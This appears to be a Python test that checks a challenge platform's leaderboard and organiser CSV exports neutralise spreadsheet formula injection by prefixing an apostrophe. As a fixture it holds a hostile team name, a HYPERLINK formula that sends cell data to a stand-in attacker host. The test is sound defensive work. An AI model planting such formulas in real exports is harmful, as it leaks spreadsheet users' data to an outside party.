"""Formula injection: a team and a user name that a spreadsheet would evaluate reach every CSV
the platform writes (the leaderboard through the API and the page, the organiser's export
through the API and the page) as text, with the leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import httpx

from platform_testing import challenge_def, start_live, stop_live, web_sign_in

TEAM = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
USER = "-1-1"  # a valid user name that a spreadsheet reads as the formula =-1-1


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_csv_neutralises_formulas(tmp_path, tiny_models, isp_split):
    from maikit.server.services.users import create_user, issue_user_token

    live = start_live(tmp_path, None)
    try:
        p = live.platform
        with p.db.write() as s, s.begin():
            u = create_user(s, username=USER, role="participant", password="pw-123456", team=TEAM, now=p.now())
            live.tokens[USER] = issue_user_token(s, u, p.now())
        live.create_challenge(challenge_def("x1", isp_split))
        sub = live.upload("x1", tiny_models["isp"] / "model.tflite", who=USER,
                          fidelity=tiny_models["isp"] / "model_none.tflite").json()
        live.worker(name="w")
        assert live.wait_done(sub["id"], who=USER)["status"] == "Finished"

        api = live.get("/api/challenges/x1/phases/validation/leaderboard", params={"format": "csv"}).text
        page = live.get("/challenges/x1/phases/validation/leaderboard.csv").text
        assert api == page
        (row,) = _rows(api)
        assert row["team"] == "'" + TEAM
        assert float(row["size_kb"]) > 0 and not row["psnr"].startswith("'")  # numbers stay numbers

        export_api = live.get("/api/challenges/x1/phases/validation/export", "organiser", params={"format": "csv"}).text
        with httpx.Client(base_url=live.url) as browser:
            assert web_sign_in(browser, "organiser", "org-pass").status_code == 303
            export_page = browser.get("/organiser/challenges/x1/phases/validation/export.csv").text
        assert export_api == export_page
        (row,) = _rows(export_api)
        assert row["user"] == "'" + USER and row["id"] == str(sub["id"])
        assert TEAM not in api.replace("'" + TEAM, "") and f",{USER}," not in export_api
    finally:
        stop_live(live)
